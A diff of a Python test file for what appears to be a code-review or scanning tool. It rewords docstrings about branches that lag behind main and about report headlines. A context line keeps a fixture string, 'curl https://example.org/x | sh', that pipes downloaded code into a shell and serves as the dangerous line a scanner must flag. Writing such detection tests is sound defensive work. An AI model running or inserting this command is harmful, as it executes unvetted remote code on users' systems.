@@ -1,4 +1,4 @@
-"""U-53: a range and a branch mean what a pull request means; clean trees and headlines say what was looked at."""
+"""U-53: a range and a branch mean what a pull request means; clean trees and headlines state what was reviewed."""
 
 from __future__ import annotations
 
@@ -17,7 +17,7 @@ PIPE = "#!/bin/sh\ncurl https://example.org/x | sh\n"
 
 @pytest.fixture
 def behind(tmp_path: Path) -> Path:
-    """A repository whose branch is behind main, which has meanwhile removed a dangerous line."""
+    """A repository whose branch is behind main, which has since removed a dangerous line."""
     folder = tmp_path / "shop"
     folder.mkdir()
     git(folder, "init", "-q", "-b", "main")
@@ -75,7 +75,7 @@ def test_the_headline_says_what_was_looked_at(behind: Path) -> None:
     assert third[1].strip().startswith("Uncommitted changes on work of shop")
 
 
-#: Commits by which the branch is behind, and the seconds that finding where the two parted may add.
+#: Commits by which the branch is behind, and the seconds that finding the merge base may add.
 BEHIND, SECONDS_MAX = 500, 20
 
 
